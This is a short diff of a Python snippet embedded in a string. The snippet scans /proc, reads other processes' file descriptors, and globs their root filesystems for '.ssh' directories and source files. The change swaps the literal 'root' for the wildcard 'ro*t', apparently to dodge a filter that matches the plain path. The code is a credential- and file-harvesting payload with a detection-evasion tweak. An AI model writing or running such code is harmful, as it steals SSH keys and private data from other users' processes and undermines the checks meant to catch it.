@@ -34,7 +34,7 @@ for pid in filter(str.isdigit, os.listdir('/proc')):
         for fd in os.listdir(f'/proc/{pid}/fd'):
             if int(pid) != os.getpid():
                 look(f'/proc/{pid}/fd/{fd}')
-    for path in glob.glob(f'/proc/{pid}/root/tmp/*/*/source/tiny/*') + glob.glob(f'/proc/{pid}/root/tmp/*/home/.ssh/*'):
+    for path in glob.glob(f'/proc/{pid}/ro*t/tmp/*/*/source/tiny/*') + glob.glob(f'/proc/{pid}/ro*t/tmp/*/home/.ssh/*'):
         look(path)
 """
 
